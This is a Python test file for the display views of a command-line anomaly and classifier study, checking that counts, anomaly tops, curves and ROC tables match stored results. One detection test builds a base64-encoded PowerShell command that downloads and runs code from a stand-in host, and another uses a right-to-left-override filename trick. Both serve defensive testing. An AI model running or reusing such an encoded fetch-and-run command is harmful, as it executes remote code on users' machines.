"""Views of a finished study: what people are shown equals what the study recorded."""

from __future__ import annotations

import json
import shutil
from datetime import date

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cmdclf.dedup import near_duplicates
from cmdclf.errors import StoreError, StudyError
from cmdclf.labels import Verdict, verdicts_table
from cmdclf.store import Store
from cmdclf.study import load_results, views
from cmdclf.telemetry import Lake


@pytest.fixture(scope="module")
def study(finished_study):
    return views.finished_study(finished_study)


@pytest.fixture(scope="module")
def results(study):
    return load_results(study)


@pytest.fixture
def store(study):
    with views.reading(study) as opened:
        yield opened


@pytest.fixture
def own_study(study, tmp_path):
    """A copy that a test may write into."""
    shutil.copytree(study, tmp_path / "out")
    return tmp_path / "out"


# ---------------------------------------------------------------------- the folder


def test_a_missing_folder_is_named_with_the_remedy(tmp_path):
    with pytest.raises(StudyError, match=r"nowhere: there is no such folder.*cmdclf demo"):
        views.finished_study(tmp_path / "nowhere")


def test_a_folder_without_results_is_no_finished_study(tmp_path):
    Store.open(tmp_path / "study.duckdb").close()
    with pytest.raises(StudyError, match=r"'results\.json' is missing"):
        views.finished_study(tmp_path)


def test_a_damaged_store_is_named(own_study):
    (own_study / "study.duckdb").write_bytes(b"not a database" * 1000)
    with pytest.raises(StoreError, match=r"study\.duckdb"):
        views.finished_study(own_study)


def test_the_embedder_is_the_one_of_the_model(study, results):
    assert views.study_embedder(study).dim > 0
    assert views.study_embedder(study).embed(pa.array(["whoami"])).shape == (1, views.study_embedder(study).dim)


def test_characters_that_hide_or_turn_text_are_written_out():
    assert views.visible("a\u202egpj.exe\x1b[0m\u200b") == r"a\u202egpj.exe\x1b[0m\u200b"


def test_a_line_feed_stays_unless_one_line_is_asked_for():
    assert views.visible("a\u3164b\xa0c\ufe0f\U000e0041") == r"a\u3164b\xa0c\ufe0f\U000e0041"
    assert views.visible("a\nb") == "a\nb"
    assert views.visible("a\nb", one_line=True) == r"a\nb"


def test_a_cut_text_says_how_much_is_left_out():
    assert views.visible("x" * 1500, 100) == "x" * 100 + " … (+1,400 characters)"


@given(st.text(max_size=300), st.integers(0, 200))
def test_visible_text_holds_no_control_character_whatever_comes(text, limit):
    shown = views.visible(text, limit, one_line=True)
    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or 0x202A <= ord(c) <= 0x202E for c in shown)


# ---------------------------------------------------------------------- telemetry


def test_day_counts_equal_the_results_and_the_store(store, results):
    days = views.day_counts(store, results)
    assert sum(days["events"].to_pylist()) == results["data"]["events"]
    assert days["role"].to_pylist() == ["training"] * 3 + ["test"] * 2
    assert days["day"].to_pylist() == store.days()
    for day, distinct in zip(days["day"].to_pylist(), days["distinct"].to_pylist(), strict=True):
        assert distinct == sum(batch.num_rows for batch in store.lines([day]))
    assert sum(days["new"].to_pylist()) == sum(batch.num_rows for batch in store.lines())


def test_platform_counts_equal_the_lakes_events(store, study):
    lake = Lake(study.parent / "lake")
    seen = [row for row in views.platform_counts(store).to_pylist()]
    for day in store.days():
        events = pa.Table.from_batches(list(lake.batches(day, ["platform", "count"])))
        for row in (r for r in seen if r["day"] == day):
            mine = events.filter(pc.equal(events["platform"], row["platform"]))
            assert row["events"] == pc.sum(mine["count"]).as_py()


def test_top_lines_are_those_with_most_events(store):
    every = pa.Table.from_batches(list(store.lines()))
    top = views.top_lines(store, None, 7)
    assert top["events"].to_pylist() == sorted(every["events"].to_pylist(), reverse=True)[:7]
    assert views.top_lines(store, [date(1999, 1, 1)], 7).num_rows == 0


def test_frequencies_add_up_to_all_lines_and_events(store, results):
    seen = views.frequencies(store)
    assert sum(seen["lines"].to_pylist()) == sum(batch.num_rows for batch in store.lines())
    assert pc.sum(pc.multiply(seen["events"], seen["lines"])).as_py() == results["data"]["events"]


def test_every_length_falls_into_a_bin():
    lengths = [0, 1, 2, 3, 64, 65, 5000]
    table = pa.table({"command_line": ["x" * n for n in lengths]})
    bins = views.length_histogram(table)
    assert sum(bins["lines"].to_pylist()) == len(lengths)
    assert pc.sum(bins["share"]).as_py() == pytest.approx(1)
    held = {(r["from"], r["to"]): r["lines"] for r in bins.to_pylist()}
    assert sum(n for (low, high), n in held.items() if low <= 64.0 and high <= 91) == 6


def test_no_lines_have_no_lengths_and_no_platforms():
    empty = pa.table({"command_line": pa.array([], pa.string()), "platform": pa.array([], pa.string())})
    assert sum(views.length_histogram(empty)["lines"].to_pylist()) == 0
    assert views.platform_shares(empty).num_rows == 0


def test_platform_shares_add_up_to_one(store):
    shares = views.platform_shares(store.sample(store.days()[0], 40))
    assert pc.sum(shares["share"]).as_py() == pytest.approx(1)
    assert sum(shares["lines"].to_pylist()) == 40


# ---------------------------------------------------------------------- curves


def test_the_curves_as_rows_are_those_of_the_results_and_their_steps_add_up(results):
    rows = views.curve_rows(results)
    curves = results["curves"]
    assert rows.num_rows == 3 * 3 * 3
    for scale, lists in (*curves["by_scale"].items(), ("together", curves)):
        for name in ("all", "distinct", "near_distinct"):
            mine = rows.filter(pc.and_(pc.equal(rows["scale"], scale), pc.equal(rows["curve"], name)))
            assert mine["day"].to_pylist() == [1, 2, 3]
            assert mine["anomalies"].to_pylist() == lists[name]
            assert pc.sum(mine["new"]).as_py() == lists[name][-1]


def test_saturation_has_a_row_for_each_scale_and_both(results):
    table = views.saturation_table(results)
    assert table["scale"].to_pylist() == ["full", "reduced", "together"]
    assert table["near_distinct"].to_pylist()[-1] == results["curves"]["near_distinct"][-1]
    assert table["below_10"].null_count == 3  # three days have no week


def test_results_from_before_there_were_curves_by_scale_are_named_with_the_remedy(results):
    old = {"curves": {k: results["curves"][k] for k in ("all", "distinct", "near_distinct")}}
    for view in (views.curve_rows, views.saturation_table):
        with pytest.raises(StudyError, match="Run the study again"):
            view(old)


# ---------------------------------------------------------------------- anomalies


def test_the_newest_anomalies_are_as_many_as_the_curve_says(store, results):
    assert views.newest_anomalies(store).num_rows == results["curves"]["all"][-1]


def test_anomalies_of_earlier_settings_are_left_out(own_study, results):
    with Store.open(own_study / "study.duckdb") as store:
        before = views.newest_anomalies(store)
        day = before["day"][0].as_py()
        again = pa.table(
            {"command_id": before["command_id"][:1], "detector": ["isolation_forest"], "score": [9.0], "rank": [1]}
        )
        with store.stage("anomalies.full", day, settings="other"):
            store.put_anomalies(day, "full", "other", again)
        now = views.newest_anomalies(store)
        mine = now.filter(pc.and_(pc.equal(now["day"], day), pc.equal(now["scale"], "full")))
        assert mine["score"].to_pylist() == [9.0]


def test_the_top_of_a_day_comes_with_its_lines_events_and_verdicts(store):
    day = store.days()[0]
    top = views.top_anomalies(store, day, "full", "isolation_forest", 5)
    assert top["rank"].to_pylist() == [1, 2, 3, 4, 5]
    assert top["score"].to_pylist() == sorted(top["score"].to_pylist(), reverse=True)
    assert top["command_line"].to_pylist() == store.lines_by_id(top["command_id"])["command_line"].to_pylist()
    counts = {r["command_id"]: r["events"] for batch in store.lines([day]) for r in batch.to_pylist()}
    assert top["events"].to_pylist() == [counts[i] for i in top["command_id"].to_pylist()]
    verdicts = {r["command_id"]: r["verdict"] for r in store.verdicts().to_pylist()}
    assert top["verdict"].to_pylist() == [verdicts.get(i) for i in top["command_id"].to_pylist()]


def test_an_unknown_detector_has_an_empty_top(store):
    assert views.top_anomalies(store, store.days()[0], "full", "no_such_detector", 5).num_rows == 0


def test_a_check_says_whether_the_line_or_a_layer_shows_it():
    import base64

    hidden = base64.b64encode(
        "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://x.test/a')".encode("utf-16-le")
    )
    fired = views.fired_checks(f"powershell.exe -enc {hidden.decode()}", "windows")
    places = dict(zip(fired["check"].to_pylist(), fired["seen_in"].to_pylist(), strict=True))
    assert "line" in places.values()
    assert "encoded-command" in places.values()
    assert views.fired_checks("", "linux").num_rows == 0


def test_unusual_features_are_ordered_by_their_distance_from_the_median(store):
    day = store.days()[0]
    top = views.top_anomalies(store, day, "full", "isolation_forest", 1)["command_id"][0].as_py()
    found = views.unusual_features(store, day, top, 12)
    distance = np.abs(found["deviation"].to_numpy())
    assert len(distance) == 12
    assert np.isfinite(distance).all()
    assert (np.diff(distance) <= 0).all()
    for row in found.to_pylist():
        assert np.sign(row["value"] - row["day_median"]) == np.sign(row["deviation"])


# ---------------------------------------------------------------------- groups and labels


def test_groups_hold_each_line_once(store, study):
    lines = views.day_anomaly_lines(store, store.days()[0])
    vectors = views.study_embedder(study).embed(lines["command_line"].combine_chunks())
    counts = []
    for threshold in (0.6, 1.0):
        groups = near_duplicates(lines, vectors, threshold=threshold)
        rows = views.group_rows(lines, groups)
        assert sum(rows["members"].to_pylist()) == lines.num_rows
        members = views.group_members(lines, groups, rows["representative_id"][0].as_py())
        assert members.num_rows == rows["members"][0].as_py()
        assert members["level"].to_pylist().count("representative") == 1
        assert members["level"][0].as_py() == "representative"
        counts.append(rows.num_rows)
    assert counts[0] <= counts[1]


def test_vetoed_lines_are_those_that_the_results_count(store, results):
    assert views.vetoed_lines(store).num_rows == results["labels"]["vetoed"]


def test_a_verdict_on_a_line_of_another_study_does_not_break_the_view(own_study):
    stranger = Verdict("f" * 32, "unsure", 0.9, "elsewhere", vetoed_by="rule:x")
    with Store.open(own_study / "study.duckdb") as store:
        before = views.vetoed_lines(store)
        store.append_verdicts(verdicts_table([stranger]))
        assert views.vetoed_lines(store).equals(before)


# ---------------------------------------------------------------------- classifier


def test_arm_rows_equal_the_results(results):
    rows = views.arm_rows(results, "incident").to_pylist()
    assert [r["arm"] for r in rows] == [a["name"] for a in results["arms"]]
    for row, arm in zip(rows, results["arms"], strict=True):
        assert row["auc"] == arm["tests"]["incident"]["auc"]
        assert row["added"] == arm["train"]["added"]


def test_a_test_that_no_arm_has_gives_empty_values(results):
    rows = views.arm_rows(results, "no_such_test")
    assert rows["auc"].null_count == rows.num_rows
    assert views.roc_rows(results, "no_such_test").num_rows == 0


def test_roc_rows_are_fit_for_a_log_axis(results):
    rows = views.roc_rows(results, "incident")
    assert pc.min(rows["fpr"]).as_py() > 0
    for arm in results["arms"]:
        mine = rows.filter(pc.equal(rows["arm"], arm["name"]))
        assert mine["fpr"][-1].as_py() == 1.0
        assert mine["tpr"].to_pylist() == sorted(mine["tpr"].to_pylist())


def test_what_is_reached_without_a_false_alert_is_drawn_at_one_benign_line():
    found = {"n_benign": 100, "roc": {"fpr": [0.0, 0.05, 1.0], "tpr": [0.4, 0.7, 1.0]}}
    rows = views.roc_rows({"arms": [{"name": "rb", "tests": {"incident": found}}]}, "incident")
    assert list(zip(rows["fpr"].to_pylist(), rows["tpr"].to_pylist(), strict=True)) == [
        (0.01, 0.4),
        (0.05, 0.7),
        (1, 1),
    ]


def test_confusion_and_errors_count_the_same_lines(study, results):
    for arm in ("rb", "ab+mined"):
        scored = views.scored_test(study, arm, "incident")
        for threshold in (0.0, 0.5, 1.1):
            malicious, benign = views.confusion(scored, threshold).to_pylist()
            assert malicious["alerted"] + malicious["quiet"] == results["arms"][0]["tests"]["incident"]["n_malicious"]
            assert views.errors(scored, threshold, "false alerts").num_rows == benign["alerted"]
            assert views.errors(scored, threshold, "misses").num_rows == malicious["quiet"]


def test_the_worst_errors_come_first():
    scored = pa.table(
        {
            "command_id": list("abcd"), "platform": ["linux"] * 4, "command_line": ["w"] * 4, "source": ["s"] * 4,
            "label": pa.array([0, 0, 1, 1], pa.int8()), "score": [0.6, 0.9, 0.4, 0.1],
        }
    )  # fmt: skip
    assert views.errors(scored, 0.5, "false alerts")["command_id"].to_pylist() == ["b", "a"]
    assert views.errors(scored, 0.5, "misses")["command_id"].to_pylist() == ["d", "c"]


def test_a_class_without_rows_has_no_rate():
    scored = pa.table({"label": pa.array([0], pa.int8()), "score": [0.6]})
    assert views.confusion(scored, 0.5)["alert_rate"].to_pylist() == [None, 1.0]


def test_an_unknown_test_of_an_arm_is_named(study):
    with pytest.raises(StudyError, match="'rb' has no test 'nothing'"):
        views.scored_test(study, "rb", "nothing")


def test_an_arms_thresholds_are_its_manifests(study):
    manifest = json.loads((study / "arms" / "rb-seed0" / "model" / "manifest.json").read_text())
    assert views.arm_thresholds(study, "rb") == manifest["thresholds"]
